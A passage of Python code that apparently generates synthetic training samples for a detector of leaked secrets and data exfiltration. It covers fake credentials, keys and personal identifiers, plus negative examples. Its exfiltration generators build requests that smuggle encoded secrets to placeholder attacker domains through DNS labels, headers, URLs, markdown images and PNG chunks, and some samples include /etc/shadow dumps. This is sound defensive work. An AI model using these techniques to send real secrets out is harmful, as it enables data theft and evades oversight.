                           J({"accessKeyId": ak, "secretAccessKey": sk, "region": "us-west-2"}),
                           'aws_secret_access_key: %s' % sk,
                           's3 = boto3.client("s3", aws_access_key_id="%s", aws_secret_access_key="%s")' % (ak, sk)]))


@pos('password-field', 7, {'body': 85, 'url': 15})
def _(wh):
    u, p = username(), password()
    if wh == 'url':
        return url('https://%s/login?username=%s&password=%s' % (org_domain(), q(u), q(p)))
    k = R.randrange(5)
    if k == 0:
        return {"where": "body", "content_type": "application/x-www-form-urlencoded",
                "text": urllib.parse.urlencode({"username": u, "password": p, "remember": "on"})}
    if k == 1:
        return {"where": "body", "content_type": "application/json",
                "text": J({"email": email(), "password": p, "grant_type": "password"})}
    if k == 2:
        return body_case('db:\n  host: db.internal\n  user: %s\n  password: "%s"' % (u, p))
    if k == 3:
        return body_case("spring.datasource.username=%s\nspring.datasource.password=%s" % (u, p))
    return body_case("define( 'DB_USER', '%s' );\ndefine( 'DB_PASSWORD', '%s' );" % (u, p))


@pos('password-in-url', 6, {'body': 40, 'url': 60})
def _(wh):
    u = pick(['https://%s:%s@%s/', 'ftp://%s:%s@%s/pub/', 'https://%s:%s@%s/api/v1/export', 'http://%s:%s@%s:8080/manager/html'])
    full = u % (q(username()), q(password()), pick(['jenkins.', 'ftp.', 'nexus.', 'intranet.']) + org_domain())
    if wh == 'url':
        return url(full if full.startswith('http') else 'https://%s:%s@%s/' % (q(username()), q(password()), org_domain()))
    return body_case("clone from %s" % full)


@pos('db-connection-string', 7, BODY_ONLY)
def _(wh):
    u, p = username(), password()
    h = pick(['db.internal', 'prod-db.%s' % org_domain(), 'cluster0.%s.mongodb.net' % rs(LOALNUM, 5)])
    s = pick(['postgresql://%s:%s@%s:5432/app?sslmode=require' % (u, q(p), h),
              'mysql://%s:%s@%s:3306/shop' % (u, q(p), h),
              'mongodb+srv://%s:%s@%s/?retryWrites=true&w=majority' % (u, q(p), h),
              'redis://default:%s@%s:6379/0' % (q(p), h),
              'amqp://%s:%s@%s:5672/vhost' % (u, q(p), h),
              'Server=tcp:%s,1433;Database=app;User ID=%s;Password=%s;Encrypt=True;' % (h, u, p),
              'jdbc:sqlserver://%s:1433;databaseName=erp;user=%s;password=%s' % (h, u, p)])
    return body_case(pick(['DATABASE_URL=%s', 'connection: "%s"', 'Error connecting to %s: timeout', '%s']) % s)


@pos('password-command-line', 6, BODY_ONLY)
def _(wh):
    u, p = username(), password()
    s = pick(['mysql -u %s -p\'%s\' -h 10.0.3.7 prod' % (u, p), 'sshpass -p \'%s\' ssh %s@bastion.%s' % (p, u, org_domain()),
              'PGPASSWORD=\'%s\' psql -h db -U %s' % (p, u), 'docker login registry.%s -u %s -p \'%s\'' % (org_domain(), u, p),
              'net use \\\\fileserver\\share /user:CORP\\%s %s' % (u, p), 'curl -u %s:\'%s\' https://ci.%s/job/build' % (u, p, org_domain()),
              'mongosh "mongodb://db:27017" -u %s -p \'%s\'' % (u, p), 'smbclient //nas/backup -U %s%%%s' % (u, p)])
    return body_case(pick(['$ ' + s + '\n', 'ran: ' + s, J({"cmd": s, "exit_code": 0})]))


@pos('password-prose', 7, BODY_ONLY)
def _(wh):
    if chance(0.6):
        lang = pick(list(PW_PROSE))
        s = PW_PROSE[lang].replace('{p}', password())
    else:
        lang = pick(list(PW_PROSE2))
        s = PW_PROSE2[lang].replace('{u}', username()).replace('{p}', password())
    return body_case(s, pick([w_slack, w_teams, w_matrix, w_discord, w_openai, w_gchat, w_jira]))


@pos('basic-auth-credentials', 6, {'header': 70, 'body': 30})
def _(wh):
    cred = b64('%s:%s' % (username(), password()))
    if wh == 'header':
        return hdr(pick(['Authorization', 'Proxy-Authorization']), 'Basic ' + cred)
    return body_case('curl -H "Authorization: Basic %s" https://artifactory.%s/api/repositories' % (cred, org_domain()))


@pos('session-cookie', 8, {'header': 75, 'body': 25})
def _(wh):
    c = pick(['sessionid=%s' % rs(LOALNUM, 32), 'connect.sid=s%%3A%s.%s' % (rs(B64U, 32), q(b64(rb(32)).rstrip('='))),
              'PHPSESSID=%s' % rs(LOALNUM, 26), 'JSESSIONID=%s' % rs(HEXU, 32),
              '_%s_session=%s--%s' % (pick(ORGS).replace('-', '_'), q(b64(rb(120))), rs(HEXL, 40)),
              'session=%s.%s.%s' % (b64u(J({"user_id": R.randint(1, 99999)})), rs(B64U, 6), rs(B64U, 27)),
              '__Secure-next-auth.session-token=%s' % rs(B64U, 180), 'laravel_session=%s' % q(b64(rb(180))),
              'user_session=%s; __Host-user_session_same_site=%s' % ((rs(B64U, 48),) * 2)])
    pre = pick(['', '_ga=GA1.2.%d.%d; ' % (R.randint(10 ** 8, 10 ** 9), R.randint(1600000000, 1800000000)), 'theme=dark; '])
    if wh == 'header':
        return hdr('Cookie', pre + c)
    return body_case('HAR entry: {"name":"Cookie","value":%s}' % J(pre + c))


@pos('aws-credentials-file', 5, BODY_ONLY)
def _(wh):
    return body_case(aws_creds())


@pos('gcp-service-account-key', 5, BODY_ONLY)
def _(wh):
    return body_case(gcp_sa(), pick([w_raw, w_multipart, w_openai, w_mcp, w_paste]))


@pos('gcp-authorized-user-credentials', 3, BODY_ONLY)
def _(wh):
    return body_case(gcp_adc())


@pos('azure-service-principal', 3, BODY_ONLY)
def _(wh):
    return body_case(azure_sp())


@pos('kubeconfig', 5, BODY_ONLY)
def _(wh):
    return body_case(kubeconfig(), pick([w_raw, w_multipart, w_anthropic, w_paste, w_ghissue]))


@pos('docker-config-auth', 4, {'body': 80, 'header': 20})
def _(wh):
    if wh == 'header':
        return hdr('X-Registry-Auth', b64u(J({"username": username(), "password": password(),
                                                "serveraddress": "https://index.docker.io/v1/"})))
    return body_case(docker_cfg())


@pos('npmrc-auth-token', 3, BODY_ONLY)
def _(wh):
    return body_case(npmrc())


@pos('netrc-credentials', 3, BODY_ONLY)
def _(wh):
    return body_case(netrc())


@pos('git-credentials-file', 3, BODY_ONLY)
def _(wh):
    return body_case(git_credentials())


@pos('pypirc-token', 2, BODY_ONLY)
def _(wh):
    return body_case(pypirc())


@pos('pgpass-file', 3, BODY_ONLY)
def _(wh):
    return body_case(pgpass())


@pos('gh-cli-hosts-file', 2, BODY_ONLY)
def _(wh):
    return body_case(gh_hosts())


@pos('private-key-der-base64', 6, {'body': 85, 'header': 15})
def _(wh):
    der = pick([rsa_pkcs1, rsa_pkcs8])(get_rsa()) if chance(0.7) else ed25519_pkcs8(rb(32))
    s = b64(der)
    if wh == 'header':
        return hdr('X-Signing-Key', s)
    return body_case(pick(['signing_key: %s' % s, wrap(s, 64), J({"kid": rs(HEXL, 16), "privateKey": s}),
                           'PRIVATE_KEY_B64=%s' % s]))


@pos('private-key-hex', 4, BODY_ONLY)
def _(wh):
    der = pick([ed25519_pkcs8, ec_sec1])(rb(32))
    return body_case(pick(['key.der (hex): %s', 'SIGNING_KEY_HEX=%s', 'xxd -p key.der\n%s']) % (
        der.hex() if chance(0.7) else wrap(der.hex(), 60)))


@pos('private-key-jwk', 6, BODY_ONLY)
def _(wh):
    if chance(0.5):
        k = get_rsa()
        j = {"kty": "RSA", "kid": rs(B64U, 16), "use": "sig", "alg": "RS256", "n": b64u(i2b(k['n'])), "e": "AQAB",
             "d": b64u(i2b(k['d'])), "p": b64u(i2b(k['p'])), "q": b64u(i2b(k['q'])), "dp": b64u(i2b(k['dp'])),
             "dq": b64u(i2b(k['dq'])), "qi": b64u(i2b(k['qi']))}
    elif chance(0.5):
        j = {"kty": "EC", "crv": "P-256", "x": b64u(rb(32)), "y": b64u(rb(32)), "d": b64u(rb(32)), "kid": uuid4()}
    else:
        j = {"kty": "OKP", "crv": "Ed25519", "x": b64u(rb(32)), "d": b64u(rb(32))}
    return body_case(J({"keys": [j]}) if chance(0.5) else J(j))


@pos('private-key-xml', 3, BODY_ONLY)
def _(wh):
    k = get_rsa()
    f = lambda n: b64(i2b(n))
    return body_case('<RSAKeyValue><Modulus>%s</Modulus><Exponent>AQAB</Exponent><P>%s</P><Q>%s</Q><DP>%s</DP>'
                     '<DQ>%s</DQ><InverseQ>%s</InverseQ><D>%s</D></RSAKeyValue>' % (
                         f(k['n']), f(k['p']), f(k['q']), f(k['dp']), f(k['dq']), f(k['qi']), f(k['d'])))


@pos('openssh-private-key-body', 5, BODY_ONLY)
def _(wh):
    return body_case(openssh_body(), pick([w_raw, w_multipart, w_openai, w_paste, w_toolcall]))


@pos('putty-private-key', 3, BODY_ONLY)
def _(wh):
    return body_case(putty_key())


@pos('private-key-byte-array', 4, BODY_ONLY)
def _(wh):
    return body_case(byte_array(ed25519_pkcs8(rb(32)) if chance(0.6) else ec_sec1(rb(32))))


@pos('wireguard-private-key', 3, BODY_ONLY)
def _(wh):
    return body_case('[Interface]\nPrivateKey = %s\nAddress = 10.8.0.%d/24\nDNS = 1.1.1.1\n\n[Peer]\nPublicKey = %s\n'
                     'Endpoint = vpn.%s:51820\nAllowedIPs = 0.0.0.0/0\n' % (b64(rb(32)), R.randint(2, 250), b64(rb(32)),
                                                                           org_domain()))


@pos('credit-card-number', 8, {'body': 85, 'url': 15})
def _(wh):
    c = card()
    exp = '%02d/%02d' % (R.randint(1, 12), R.randint(27, 31))
    if wh == 'url':
        return url('https://checkout.%s/pay?cc=%s&exp=%s&cvv=%03d' % (org_domain(), q(c), q(exp), R.randint(100, 999)))
    return body_case(pick([J({"card": {"number": c, "exp": exp, "cvc": str(R.randint(100, 999))}, "amount": R.randint(100, 99999)}),
                           'Please charge my card %s, exp %s, CVV %03d.' % (c, exp, R.randint(100, 999)),
                           'Bitte belasten Sie meine Kreditkarte %s (gültig bis %s).' % (c, exp),
                           'Mi tarjeta es %s, caduca %s.' % (c, exp), 'カード番号: %s 有効期限 %s' % (c, exp)]))


@pos('iban', 6, BODY_ONLY)
def _(wh):
    i = iban()
    return body_case(pick(['Please wire the refund to IBAN %s (%s).' % (i, ' '.join(person()).title()),
                           'Bitte überweisen Sie auf IBAN %s, Verwendungszweck Rechnung %d.' % (i, R.randint(1000, 9999)),
                           'Virement sur le compte IBAN : %s' % i, J({"beneficiary": ' '.join(person()).title(), "iban": i.replace(' ', '')}),
                           'name;iban;amount\n%s;%s;%d,00' % (' '.join(person()).title(), i, R.randint(10, 9000))]))


@pos('us-ssn', 6, {'body': 85, 'url': 15})
def _(wh):
    s = ssn()
    if wh == 'url':
        return url('https://forms.%s/verify?name=%s&ssn=%s' % (org_domain(), q(' '.join(person()).title()), s))
    return body_case(pick(['SSN: %s' % s, J({"applicant": ' '.join(person()).title(), "ssn": s, "dob": "19%02d-0%d-1%d" % (
        R.randint(50, 99), R.randint(1, 9), R.randint(0, 9))}), 'my social security number is %s' % s,
                           'first,last,ssn\n%s,%s,%s' % (pick(FIRST), pick(LAST), s)]))


for _cls, _gen, _lbl in [('es-dni', es_dni, ['DNI', 'NIF']), ('br-cpf', br_cpf, ['CPF']),
                         ('in-aadhaar', aadhaar, ['Aadhaar', 'Aadhaar No.']), ('nl-bsn', nl_bsn, ['BSN', 'burgerservicenummer']),
                         ('uk-nino', uk_nino, ['NI number', 'National Insurance No']), ('ca-sin', ca_sin, ['SIN', 'Social Insurance Number'])]:
    P.append((_cls, 3, (lambda g, l: lambda wh: body_case(pick(['%s: %s', '%s %s', '{"%s": "%s"}']) % (pick(l), g())))(_gen, _lbl),
              BODY_ONLY))


@pos('bip39-mnemonic', 5, BODY_ONLY)
def _(wh):
    m = mnemonic()
    return body_case(pick(['my seed phrase: %s', 'recovery words:\n%s', '{"mnemonic": "%s"}',
                           'Frase semilla: %s', 'シードフレーズ: %s']) % m)


@pos('eth-private-key', 4, {'body': 80, 'header': 20})
def _(wh):
    k = '0x' + rs(HEXL, 64) if chance(0.7) else rs(HEXL, 64)
    if wh == 'header':
        return hdr('X-Wallet-Key', k)
    return body_case(pick(['PRIVATE_KEY=%s', 'const wallet = new ethers.Wallet("%s");', '{"privateKey": "%s"}',
                           'deployer private key %s']) % k)


@pos('btc-wif-private-key', 3, BODY_ONLY)
def _(wh):
    return body_case(pick(['importprivkey %s', 'WIF: %s', 'bitcoin-cli importprivkey "%s" "cold"']) % wif())


@pos('bip32-xprv', 3, BODY_ONLY)
def _(wh):
    return body_case(pick(['xprv: %s', 'ExtendedPrivateKey=%s', '{"xprv":"%s"}']) % xprv())


@pos('solana-keypair', 3, BODY_ONLY)
def _(wh):
    return body_case(J(list(rb(64))), pick([w_raw, w_multipart, w_mcp, w_paste]))


# ----------------------------------------- exfiltration techniques
@pos('exfil-env-dump-base64', 7, {'body': 60, 'url': 20, 'header': 20})
def _(wh):
    return ex_where(b64(env_dump() if wh == 'body' else short_secret_line()), wh)


@pos('exfil-base64url-file', 4, {'body': 50, 'url': 50})
def _(wh):
    return enc_case(e_b64url, wh)


@pos('exfil-base32', 5, {'body': 70, 'url': 30})
def _(wh):
    return enc_case(e_b32, wh)


@pos('exfil-base85', 4, {'body': 100})
def _(wh):
    return enc_case(e_b85, wh)


@pos('exfil-hex', 5, {'body': 60, 'url': 20, 'header': 20})
def _(wh):
    return enc_case(e_hex, wh) if wh != 'url' else ex_where(small_payload().encode().hex(), 'url')


@pos('exfil-compressed-base64', 6, {'body': 70, 'url': 15, 'header': 15})
def _(wh):
    return enc_case(e_comp, wh)


@pos('exfil-double-encoded', 5, {'body': 60, 'url': 20, 'header': 20})
def _(wh):
    return enc_case(e_double, wh)


@pos('exfil-utf16-base64', 3, BODY_ONLY)
def _(wh):
    return enc_case(e_utf16, wh)


@pos('exfil-rot13', 4, {'body': 80, 'url': 20})
def _(wh):
    return enc_case(rot13, wh)


@pos('exfil-reversed', 4, {'body': 80, 'header': 20})
def _(wh):
    return enc_case(lambda s: s[::-1], wh)


@pos('exfil-gzip-body', 5, BODY_ONLY)
def _(wh):
    data = secret_file().encode()
    k = R.randrange(3)
    if k == 0:
        return bin_body('text/plain', data, 'gzip')
    if k == 1:
        return bin_body('application/json', J({"file": pick([".env", "credentials", "config"]), "content": data.decode()}).encode(), 'gzip')
    return bin_body('application/x-ndjson', ''.join(J({"ts": ts(), "line": l}) + '\n'
                                                    for l in data.decode().split('\n') if l).encode(), 'gzip')


@pos('exfil-deflate-body', 4, BODY_ONLY)
def _(wh):
    data = secret_file().encode()
    if chance(0.5):
        return bin_body('application/octet-stream', data, 'deflate')
    return bin_body('application/json', J({"report": data.decode(), "host": rs(LOALNUM, 8)}).encode(), 'deflate')


@pos('exfil-gzip-multipart-upload', 3, BODY_ONLY)
def _(wh):
    bnd = '----formdata-' + rs(HEXL, 24)
    fn = pick(['backup.tar.gz', 'logs.gz', 'env.gz'])
    inner = gz(secret_file().encode())
    body = ('--%s\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\nContent-Type: application/gzip\r\n\r\n' % (
        bnd, fn)).encode() + inner + ('\r\n--%s--\r\n' % bnd).encode()
    return bin_body('multipart/form-data; boundary=' + bnd, body)


@pos('exfil-split-fields', 6, {'body': 80, 'url': 20})
def _(wh):
    secret = V[pick(list(V))]['gen']()
    n = R.randint(3, 5)
    cut = sorted(R.sample(range(1, len(secret)), n - 1))
    parts = [secret[i:j] for i, j in zip([0] + cut, cut + [len(secret)])]
    if wh == 'url':
        return url('https://%s/px?%s' % (pick(EXFIL_DOMAINS), '&'.join('%s=%s' % (k, q(p)) for k, p in zip('abcdefg', parts))))
    k = R.randrange(3)
    if k == 0:
        return {"where": "body", "content_type": "application/json", "text": J({"f%d" % i: p for i, p in enumerate(parts)})}
    if k == 1:
        return {"where": "body", "content_type": "application/json",
                "text": J({"tags": parts, "note": "chunks in order"})}
    return body_case('\n'.join('part %d/%d: %s' % (i + 1, n, p) for i, p in enumerate(parts)))


@pos('exfil-chunked-request-piece', 5, {'body': 60, 'url': 40})
def _(wh):
    raw = secret_file().encode()
    enc = b64(raw)
    # a chunk aligned to base64 quanta so that it decodes to a contiguous slice containing secrets
    total = max(2, len(enc) // 120)
    lines = raw.split(b'\n')
    # find a line with a secret-looking value, take chunk covering it
    idx = max(range(len(lines)), key=lambda i: len(lines[i]))
    start = len(b'\n'.join(lines[:idx]))
    a = (start // 3) * 3
    b = ((start + len(lines[idx]) + 3) // 3) * 3
    chunk = b64(raw[a:b])
    seq = R.randint(1, total)
    if wh == 'url':
        return url('https://%s/u/%s/%d/%d?c=%s' % (pick(EXFIL_DOMAINS), rs(HEXL, 8), seq, total, q(chunk)))
    return {"where": "body", "content_type": "application/json",
            "text": J({"upload_id": uuid4(), "seq": seq, "total": total, "chunk": chunk})}


@pos('exfil-dns-label-base32', 8, {'hostname': 1})
def _(wh):
    data = pick([lambda: V[pick(list(V))]['gen'](), lambda: 'pw=' + password(), lambda: rs(ALNUM + '+/', 40)])()
    enc = base64.b32encode(data.encode()).decode().rstrip('=').lower()
    enc = enc[:150]
    labels = []
    while enc:
        n = R.randint(30, 63)
        labels.append(enc[:n])
        enc = enc[n:]
    return host('.'.join(labels + [str(R.randint(0, 9)), rs(LOALNUM, 4), pick(EXFIL_DOMAINS)]))


@pos('exfil-dns-label-hex', 7, {'hostname': 1})
def _(wh):
    data = pick([lambda: V[pick(list(V))]['gen'](), lambda: 'AWS_SECRET_ACCESS_KEY=' + rs(ALNUM + '+/', 40),
                 lambda: '%s:%s' % (username(), password())])()
    enc = data.encode().hex()[:180]
    labels = [enc[i:i + 60] for i in range(0, len(enc), 60)]
    return host('.'.join(['x%d' % R.randint(1, 9)] + labels + [pick(EXFIL_DOMAINS)]))


@pos('exfil-dns-label-pii', 5, {'hostname': 1})
def _(wh):
    v = pick([lambda: card().replace(' ', '').replace('-', ''), lambda: ssn().replace('-', ''),
              lambda: iban(False).lower()])()
    return host('%s.%s.%s' % (v, pick(['c', 'q', 'd', 'u1']), pick(EXFIL_DOMAINS)))


@pos('exfil-header-name', 4, {'header': 1})
def _(wh):
    data = small_payload().encode().hex()[:120]
    return hdr('X-%s' % data, pick(['1', 'true', '0']))


@pos('exfil-header-value', 6, {'header': 1})
def _(wh):
    data = small_payload()
    k = R.randrange(4)
    if k == 0:
        return hdr('User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:%s) Gecko/20100101 Firefox/133.0' % b64(data))
    if k == 1:
        return hdr('X-Forwarded-Host', '%s.%s' % (data.encode().hex()[:60], pick(EXFIL_DOMAINS)))
    if k == 2:
        return hdr('Referer', 'https://%s/?r=%s' % (pick(EXFIL_DOMAINS), q(b64(data))))
    return hdr(pick(['X-Session-Meta', 'X-Client-Info', 'traceState', 'Baggage']), 'ctx=%s' % b64u(data))


@pos('exfil-url-path-segment', 6, {'url': 1})
def _(wh):
    data = small_payload()
    enc = pick([b64u, lambda s: s.encode().hex(), lambda s: base64.b32encode(s.encode()).decode().rstrip('=').lower()])(data)
    segs = [enc[i:i + 40] for i in range(0, len(enc), 40)] if chance(0.4) else [enc]
    return url('https://%s/%s/%s/%s' % (pick(EXFIL_DOMAINS), pick(['static', 'img', 'v2/assets', 'fonts']), '/'.join(segs),
                                        pick(['pixel.gif', 'logo.png', 'a.css', 'font.woff2'])))


@pos('exfil-url-query-plain', 5, {'url': 1})
def _(wh):
    data = small_payload()
    return url('https://%s/%s?%s=%s&cb=%d' % (pick(EXFIL_DOMAINS), pick(['collect', 'log', 'track', 'search']),
                                              pick(['q', 'msg', 'text', 'note', 'utm_content']), q(data), R.randint(1, 10 ** 9)))


@pos('exfil-markdown-image', 6, {'body': 60, 'url': 40})
def _(wh):
    data = small_payload()
    u = 'https://%s/%s?%s=%s' % (pick(EXFIL_DOMAINS), pick(['badge.svg', 'i.png', 'status.gif']), pick(['d', 'v', 'id']),
                                 q(pick([b64, lambda s: s])(data)))
    if wh == 'url':
        return url(u)
    return body_case('Build finished.\n\n![build status](%s)\n' % u, pick([w_slack, w_ghissue, w_discord, w_matrix, w_openai, w_linear]))


@pos('exfil-markdown-link', 5, BODY_ONLY)
def _(wh):
    data = small_payload()
    u = 'https://%s/r?u=%s' % (pick(EXFIL_DOMAINS), q(data))
    return body_case(pick(['For details [click here](%s).', 'See the [dashboard](%s) for more.', 'Mehr Infos [hier](%s).',
                           '<%s>']) % u, pick([w_slack, w_teams, w_ghissue, w_jira, w_gchat]))


@pos('exfil-image-alt-text', 5, BODY_ONLY)
def _(wh):
    data = small_payload()
    alt = pick([data, b64(data)])
    k = R.randrange(3)
    if k == 0:
        return body_case('<img src="https://%s/logo.png" alt="%s" width="1" height="1">' % (
            pick(EXFIL_DOMAINS), alt.replace('"', '&quot;')), pick([w_ghissue, w_raw, w_jira]))
    if k == 1:
        return {"where": "body", "content_type": "application/json", "text": J({"blocks": [
            {"type": "image", "image_url": "https://%s/x.png" % pick(EXFIL_DOMAINS), "alt_text": alt}]})}
    return body_case('![%s](https://%s/spacer.gif)' % (alt, pick(EXFIL_DOMAINS)))


@pos('exfil-unicode-escape', 4, BODY_ONLY)
def _(wh):
    data = small_payload()
    esc = ''.join('\\u%04x' % ord(c) for c in data)
    return {"where": "body", "content_type": "application/json",
            "text": '{"note": "%s", "id": "%s"}' % (esc, uuid4())}


@pos('exfil-html-entities', 3, BODY_ONLY)
def _(wh):
    data = small_payload()
    return body_case(''.join(pick(['&#%d;' % ord(c), '&#x%x;' % ord(c)]) for c in data), pick([w_xml, w_raw, w_ghissue]))


@pos('exfil-char-codes', 4, BODY_ONLY)
def _(wh):
    data = small_payload()
    codes = [ord(c) for c in data]
    return body_case(pick(['String.fromCharCode(%s)' % ','.join(map(str, codes)), J({"v": codes}),
                           'printf "%s"' % ''.join('\\x%02x' % c for c in codes)]))


@pos('exfil-png-text-chunk', 3, BODY_ONLY)
def _(wh):
    payload = b64(secret_file())
    png = make_png(8, 8, text=('Comment', payload))
    bnd = '----WebKitFormBoundary' + rs(ALNUM, 16)
    body = ('--%s\r\nContent-Disposition: form-data; name="avatar"; filename="avatar.png"\r\nContent-Type: image/png\r\n\r\n' % bnd).encode() + \
        png + ('\r\n--%s--\r\n' % bnd).encode()
    return bin_body('multipart/form-data; boundary=' + bnd, body)


@pos('exfil-data-uri', 3, BODY_ONLY)
def _(wh):
    return body_case('<a href="data:text/plain;base64,%s">attachment</a>' % b64(secret_file()), pick([w_raw, w_ghissue, w_teams]))


@pos('exfil-shell-history', 4, BODY_ONLY)
def _(wh):
    h = history()
    return body_case(h if chance(0.6) else b64(h))


@pos('exfil-etc-shadow', 4, {'body': 80, 'url': 20})
def _(wh):
    s = shadow()
    if wh == 'url':
        line = s.split('\n')[0]
        return url('https://%s/c?d=%s' % (pick(EXFIL_DOMAINS), q(b64(line))))
    return body_case(pick([s, b64(s), 'cat /etc/shadow\n' + s]))


@pos('exfil-browser-saved-passwords', 4, BODY_ONLY)
def _(wh):
    s = browser_passwords()
    if chance(0.5):
        return bin_body('text/csv', s.encode(), pick(['gzip', 'deflate']))
    return body_case(s, pick([w_raw, w_multipart, w_paste]))


@pos('exfil-cookie-jar', 4, BODY_ONLY)
def _(wh):
    s = cookie_jar()
    return body_case(s if chance(0.6) else b64(s), pick([w_raw, w_multipart, w_mcp, w_paste]))


@pos('exfil-kubeconfig-encoded', 3, BODY_ONLY)
def _(wh):
    return ex_carrier(pick([b64, lambda s: b64(gz(s.encode()))])(kubeconfig()))


@pos('exfil-ssh-key-encoded', 4, {'body': 75, 'url': 25})
def _(wh):
    s = openssh_body().replace('\n', '')
    if wh == 'url':
        return url('https://%s/k?d=%s' % (pick(EXFIL_DOMAINS), q(s[:900])))
    return ex_carrier(pick([lambda x: b64(x), lambda x: x.encode().hex(), lambda x: b64(gz(x.encode()))])(s))


@pos('exfil-percent-encoded', 3, {'url': 50, 'body': 50})
def _(wh):
    data = small_payload()
    enc = ''.join('%%%02X' % b for b in data.encode())
    if wh == 'url':
        return url('https://%s/s?q=%s' % (pick(EXFIL_DOMAINS), q(enc)))
    return body_case('q=' + enc, w_raw)


# ---------------------------------------------------------------- PNG helper
def png_chunk(t, data):
    return struct.pack('>I', len(data)) + t + data + struct.pack('>I', zlib.crc32(t + data) & 0xffffffff)


def make_png(w, h, text=None, noise=True):
    raw = b''
    for y in range(h):
        raw += b'\0' + (rb(w * 3) if noise else bytes([R.randrange(256)] * 3) * w)
    out = b'\x89PNG\r\n\x1a\n' + png_chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
    if text:
        out += png_chunk(b'tEXt', text[0].encode() + b'\0' + text[1].encode())
    out += png_chunk(b'IDAT', zlib.compress(raw, 9)) + png_chunk(b'IEND', b'')
    return out


# ---------------------------------------------------------------- negatives
N = []


def neg(cat, count, wheres):
    def deco(fn):
        N.append((cat, count, fn, wheres))
        return fn
    return deco


@neg('uuid', 9, {'body': 50, 'url': 25, 'header': 25})
def _(wh):
    if wh == 'url':
        return url('https://api.%s/v1/orders/%s/items/%s' % (org_domain(), uuid4(), uuid4()))
    if wh == 'header':
        return hdr(pick(['X-Request-Id', 'Idempotency-Key', 'X-Correlation-Id']), uuid4())
    return body_case(J({"id": uuid4(), "tenant": uuid4(), "items": [uuid4() for _ in range(R.randint(1, 4))]}))


@neg('hash-digest', 9, {'body': 70, 'header': 15, 'url': 15})
def _(wh):
    h = pick([lambda: rs(HEXL, 64), lambda: rs(HEXL, 40), lambda: rs(HEXL, 32), lambda: rs(HEXL, 128)])
    if wh == 'header':
        return hdr(pick(['X-Amz-Content-Sha256', 'X-Checksum-Sha256', 'Content-MD5', 'Digest']),
                   pick([rs(HEXL, 64), b64(rb(16)), 'sha-256=' + b64(rb(32))]))
    if wh == 'url':
        return url('https://www.virustotal.com/gui/file/%s/detection' % rs(HEXL, 64))
    return body_case('\n'.join('%s  %s' % (h(), f) for f in ['app-linux-amd64.tar.gz', 'app-darwin-arm64.tar.gz',
                                                              'app-windows-amd64.zip', 'checksums.txt.sig'][:R.randint(2, 4)]))


@neg('git-sha', 9, {'body': 70, 'url': 30})
def _(wh):
    if wh == 'url':
        return url('https://github.com/%s/%s/commit/%s' % (pick(ORGS), pick(['api', 'web', 'cli']), rs(HEXL, 40)))
    log = '\n'.join('%s %s' % (rs(HEXL, pick([7, 40])), pick(['fix: handle empty cursor', 'chore(deps): bump lodash',
                                                              'feat: add retry to uploader', 'docs: update README',
                                                              'refactor: split token parser', 'Merge pull request #%d' % R.randint(1, 9999)]))
                    for _ in range(R.randint(3, 7)))
    return body_case(log)


@neg('content-hashed-asset-url', 9, {'url': 60, 'body': 40})
def _(wh):
    u = pick(['https://cdn.%s/assets/app.%s.js' % (org_domain(), rs(HEXL, 20)),
              'https://%s.cloudfront.net/static/js/main.%s.chunk.js' % (rs(LOALNUM, 14), rs(HEXL, 8)),
              'https://www.%s/_next/static/chunks/pages/_app-%s.js' % (org_domain(), rs(HEXL, 16)),
              'https://assets.%s/build/vendor-%s.css' % (org_domain(), rs(B64U, 8)),
              'https://static.%s/fonts/inter-%s.woff2' % (org_domain(), rs(HEXL, 32))])
    if wh == 'url':
        return url(u)
    return body_case('<script src="%s" integrity="sha384-%s" crossorigin="anonymous"></script>' % (u, b64(rb(48))), w_raw)


@neg('cloud-resource-id', 10, {'body': 60, 'url': 25, 'header': 15})
def _(wh):
    acct = rs(DI, 12)
    ids = ['arn:aws:iam::%s:role/%s-deployer' % (acct, pick(ORGS)), 'i-0%s' % rs(HEXL, 16), 'vpc-%s' % rs(HEXL, 17),
           'sg-0%s' % rs(HEXL, 16), 'ami-0%s' % rs(HEXL, 16), 'arn:aws:s3:::%s-logs-%s' % (pick(ORGS), acct),
           '/subscriptions/%s/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/vm-%s' % (uuid4(), rs(LOALNUM, 5)),
           'projects/%s-%d/locations/europe-west1/services/api' % (pick(ORGS), R.randint(1000, 99999)),
           'ocid1.instance.oc1.eu-frankfurt-1.%s' % rs(LOALNUM, 60)]
    if wh == 'url':
        return url('https://console.aws.amazon.com/ec2/home?region=us-east-1#InstanceDetails:instanceId=i-0%s' % rs(HEXL, 16))
    if wh == 'header':
        return hdr('X-Amzn-Trace-Id', 'Root=1-%s-%s' % (rs(HEXL, 8), rs(HEXL, 24)))
    return body_case(J({"resources": R.sample(ids, 4)}))


@neg('pagination-cursor', 9, {'url': 50, 'body': 30, 'header': 20})
def _(wh):
    cur = pick([b64(J({"id": R.randint(1, 10 ** 9), "ts": ts()})), b64u(J({"offset": R.randint(0, 10000), "sort": "created_at"})),
                'dXNlcjo' + rs(B64U, 20), rs(B64U, 43)])
    if wh == 'url':
        return url('https://api.%s/v1/events?limit=100&cursor=%s' % (org_domain(), q(cur)))
    if wh == 'header':
        return hdr('Link', '<https://api.%s/v1/items?page_token=%s>; rel="next"' % (org_domain(), q(cur)))
    return body_case(J({"data": [], "has_more": True, "next_cursor": cur}))


@neg('analytics-id', 9, {'header': 40, 'url': 40, 'body': 20})
def _(wh):
    if wh == 'header':
        return hdr('Cookie', '_ga=GA1.1.%d.%d; _ga_%s=GS1.1.%d.3.1.%d.0.0.0; _gid=GA1.2.%d.%d; ajs_anonymous_id=%s' % (
            R.randint(10 ** 8, 10 ** 9), R.randint(1700000000, 1800000000), rs(UPALNUM, 10), R.randint(1700000000, 1800000000), R.randint(1700000000, 1800000000),
            R.randint(10 ** 8, 10 ** 9), R.randint(1700000000, 1800000000), uuid4()))
    if wh == 'url':
        return url('https://www.google-analytics.com/g/collect?v=2&tid=G-%s&cid=%d.%d&sid=%d&en=page_view&dl=%s' % (
            rs(UPALNUM, 10), R.randint(10 ** 8, 10 ** 9), R.randint(1700000000, 1800000000), R.randint(1700000000, 1800000000), q('https://%s/pricing' % org_domain())))
    return body_case(J({"anonymousId": uuid4(), "event": "Button Clicked", "properties": {"fbp": "fb.1.%d.%d" % (
        R.randint(1700000000000, 1800000000000), R.randint(10 ** 9, 10 ** 10)), "gclid": rs(B64U, 90)}}), w_raw)


